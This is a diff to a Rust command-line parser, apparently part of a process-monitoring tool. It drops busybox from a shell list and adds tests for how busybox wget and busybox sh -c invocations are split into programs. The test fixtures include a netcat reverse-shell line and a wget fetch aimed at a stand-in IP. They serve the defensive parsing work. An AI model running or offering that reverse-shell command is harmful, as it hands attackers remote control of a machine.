@@ -12,7 +12,7 @@ const WRAPPERS: [&str; 14] = [
     "stdbuf", "eval",
 ];
 /// Shells whose `-c` takes a line.
-const SHELLS: [&str; 7] = ["sh", "bash", "dash", "ash", "zsh", "ksh", "busybox"];
+const SHELLS: [&str; 6] = ["sh", "bash", "dash", "ash", "zsh", "ksh"];
 
 /// Whose command lines these are.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -252,6 +252,10 @@ mod tests {
         assert_eq!((image.as_str(), line.as_str()), ("/usr/bin/bash", "bash -c id; /bin/nc -e /bin/sh 192.0.2.1 4444"));
         assert_eq!(found[2].args, ["/bin/nc", "-e", "/bin/sh", "192.0.2.1", "4444"]);
         assert_eq!(unix("busybox wget x")[1].0, "/usr/bin/wget");
+        let found = unix("busybox wget -c http://192.0.2.1/x");
+        assert_eq!(found[1..], owned(&[("/usr/bin/wget", "wget -c http://192.0.2.1/x")]), "no line of a shell");
+        let found = unix("/bin/busybox sh -c 'id; ps'");
+        assert_eq!(found[1..], owned(&[("/usr/bin/sh", "sh -c id; ps"), ("/usr/bin/id", "id"), ("/usr/bin/ps", "ps")]));
         assert_eq!(unix("env A=1 -i id")[1].1, "id");
     }
 
